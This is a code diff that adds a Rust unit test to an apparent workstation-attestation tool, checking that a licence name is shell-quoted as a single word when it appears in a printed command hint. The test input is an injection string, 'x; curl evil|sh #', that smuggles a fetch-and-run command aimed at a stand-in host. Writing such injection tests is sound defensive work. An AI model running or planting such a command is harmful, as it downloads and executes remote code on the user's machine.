@@ -127,6 +127,18 @@ fn a_licence_is_attested_dated_and_not_too_old() {
     assert!(hint.contains("laneway workstation attest ws-1 --license orca"));
 }
 
+#[test]
+fn a_licence_in_a_hint_is_one_word_of_the_shell() {
+    let found = unmet(&with(|t| {
+        t.requires.licenses = vec!["x; curl evil|sh #".to_owned()];
+    }));
+    let hint = found[0].hint.as_deref().unwrap();
+    assert!(
+        hint.contains("--license 'x; curl evil|sh #' --how"),
+        "{hint}"
+    );
+}
+
 /// `T-1` on `ws-1`, which has the probes `db` and `disk`.
 fn probed() -> World {
     plain().rules(|rules| {
